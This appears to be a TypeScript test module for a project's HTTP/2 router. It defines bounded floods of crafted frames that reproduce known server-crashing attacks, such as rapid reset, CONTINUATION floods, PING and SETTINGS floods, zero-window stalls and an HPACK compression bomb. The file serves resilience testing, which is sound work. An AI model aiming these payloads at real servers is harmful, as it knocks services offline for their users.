// What has brought HTTP/2 servers down, each bounded in what it sends. An attack ends when it is over or the connection is.

import { flag, frameType, setting } from '#router/data/h2/frames.ts'
import type { FramePeer } from './frame-peer.ts'
import { block, frame, numbers, pair, request } from './http2-frames.ts'

export interface Attack {
  readonly name: string
  /** Settings of the client that it needs. */
  readonly settings?: readonly Buffer[]
  /** Octets of the answers that it asks for, at `/large`. */
  readonly answers?: number
  /** It waits: only time ends it. */
  readonly patient?: true
  /** Sends its worst; `host` answers. */
  run(peer: FramePeer, host: string): Promise<void>
}

const { endHeaders, endStream } = flag
const whole = endHeaders | endStream

/** Sends what `make` makes of each number until the connection is closed, 64 frames at a time. */
async function flood(peer: FramePeer, count: number, make: (n: number) => Uint8Array): Promise<void> {
  for (let n = 0; n < count && !peer.isClosed; n += 64) {
    const taken = peer.send(...Array.from({ length: 64 }, (_, i) => make(n + i)))
    await (taken ? new Promise(resolve => setImmediate(resolve)) : peer.drained())
  }
}

const odd = (n: number): number => 2 * n + 1

/** One entry of 4,000 octets for the table, then references to it: each octet is 4 kB of field lines. */
function bomb(host: string): Buffer {
  const value = Buffer.alloc(4000, 'x')
  const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), value])
  return Buffer.concat([request(host), entry, Buffer.alloc(12_000, 0xbe)])
}

export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset (CVE-2023-44487)',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, whole, odd(n), request(host)),
          frame(frameType.rstStream, 0, odd(n), numbers(8)),
        ]),
      ),
  },
  {
    name: 'the router made to reset, by a window of nothing (CVE-2025-8671)',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, endHeaders, odd(n), request(host)),
          frame(frameType.windowUpdate, 0, odd(n), numbers(0)),
        ]),
      ),
  },
  {
    name: 'the router made to reset, by DATA behind the end',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, whole, odd(n), request(host, 'GET', '/large')),
          frame(frameType.data, 0, odd(n), 'x'),
        ]),
      ),
    answers: 1_000_000,
    settings: [pair(setting.initialWindowSize, 0)],
  },
  {
    name: 'the router made to reset, by a window beyond all bounds',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
          frame(frameType.windowUpdate, 0, odd(n), numbers(0x7fffffff)),
        ]),
      ),
  },
  {
    name: 'the router made to reset, by PRIORITY of a wrong length',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
          frame(frameType.priority, 0, odd(n), 'x'),
        ]),
      ),
  },
  {
    name: 'the router made to reset, by a stream that depends on itself',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
          frame(frameType.priority, 0, odd(n), Buffer.concat([numbers(odd(n)), Buffer.of(1)])),
        ]),
      ),
  },
  {
    name: 'the router made to reset, by HEADERS behind the end',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(frameType.headers, whole, odd(n), request(host, 'GET', '/large')),
          frame(frameType.headers, whole, odd(n), request(host)),
        ]),
      ),
    answers: 1_000_000,
    settings: [pair(setting.initialWindowSize, 0)],
  },
  {
    name: 'the router made to reset, by more DATA than was announced',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        Buffer.concat([
          frame(
            frameType.headers,
            endHeaders,
            odd(n),
            Buffer.concat([request(host, 'POST'), block(['content-length', '1'])]),
          ),
          frame(frameType.data, 0, odd(n), 'xx'),
        ]),
      ),
  },
  {
    name: 'HEADERS without a field (CVE-2019-9518)',
    run: peer => flood(peer, 20_000, n => frame(frameType.headers, whole, odd(n))),
  },
  {
    name: 'the router made to reset, by malformed requests',
    run: (peer, host) => flood(peer, 20_000, n => frame(frameType.headers, whole, odd(n), block(['no-pseudo', host]))),
  },
  {
    name: 'streams beyond the limit',
    run: (peer, host) =>
      flood(peer, 20_000, n => frame(frameType.headers, endHeaders, odd(n), request(host, 'POST', '/large'))),
  },
  {
    name: 'CONTINUATION without end (CVE-2024-27316)',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        n === 0
          ? frame(frameType.headers, 0, 1, request(host))
          : frame(frameType.continuation, 0, 1, block(['a', 'b'])),
      ),
  },
  {
    name: 'CONTINUATION without octets',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        n === 0 ? frame(frameType.headers, 0, 1, request(host)) : frame(frameType.continuation, 0, 1),
      ),
  },
  {
    name: 'CONTINUATION octet by octet',
    run: (peer, host) => {
      const fields = Buffer.concat([request(host), ...Array.from({ length: 4000 }, () => block(['a', 'b']))])
      return flood(peer, fields.length, n =>
        n === 0
          ? frame(frameType.headers, 0, 1, fields.subarray(0, 1))
          : frame(frameType.continuation, 0, 1, fields.subarray(n, n + 1)),
      )
    },
  },
  {
    name: 'SETTINGS flood (CVE-2019-9515)',
    run: peer => flood(peer, 20_000, n => frame(frameType.settings, 0, 0, pair(setting.headerTableSize, n & 4095))),
  },
  {
    name: 'PING flood (CVE-2019-9512)',
    run: peer => flood(peer, 20_000, () => frame(frameType.ping, 0, 0, '12345678')),
  },
  {
    name: 'PRIORITY flood (CVE-2019-9513)',
    run: peer =>
      flood(peer, 20_000, n => frame(frameType.priority, 0, odd(n), Buffer.concat([numbers(0), Buffer.of(1)]))),
  },
  {
    name: 'empty DATA (CVE-2019-9518)',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        n === 0 ? frame(frameType.headers, endHeaders, 1, request(host, 'POST')) : frame(frameType.data, 0, 1),
      ),
  },
  {
    name: 'DATA of padding',
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        n === 0
          ? frame(frameType.headers, endHeaders, 1, request(host, 'POST'))
          : frame(frameType.data, flag.padded, 1, Buffer.of(3, 0, 0, 0)),
      ),
  },
  { name: 'frames of a type that nobody knows', run: peer => flood(peer, 20_000, () => frame(99, 0, 0)) },
  {
    name: 'WINDOW_UPDATE flood',
    run: peer => flood(peer, 20_000, () => frame(frameType.windowUpdate, 0, 0, numbers(1))),
  },
  {
    name: 'windows opened by single octets (CVE-2019-9511)',
    answers: 1_000_000,
    settings: [pair(setting.initialWindowSize, 0)],
    run: (peer, host) =>
      flood(peer, 20_000, n =>
        n === 0
          ? frame(frameType.headers, whole, 1, request(host, 'GET', '/large'))
          : frame(frameType.windowUpdate, 0, 1, numbers(1)),
      ),
  },
  {
    name: 'answers that are asked for and not taken (CVE-2019-9517)',
    answers: 1_000_000,
    settings: [pair(setting.initialWindowSize, 0)],
    patient: true,
    run: (peer, host) => flood(peer, 128, n => frame(frameType.headers, whole, odd(n), request(host, 'GET', '/large'))),
  },
  {
    name: 'a header-compression bomb',
    run: (peer, host) => flood(peer, 2_000, n => frame(frameType.headers, whole, odd(n), bomb(host))),
  },
  {
    name: 'cookies in thousands of crumbs',
    run: (peer, host) => {
      const crumbs = Buffer.concat([request(host), ...Array.from({ length: 1500 }, () => block(['cookie', 'a']))])
      return flood(peer, 2_000, n => frame(frameType.headers, whole, odd(n), crumbs))
    },
  },
  {
    name: 'a header block that never ends',
    patient: true,
    run: async (peer, host) => void peer.send(frame(frameType.headers, 0, 1, request(host))),
  },
]
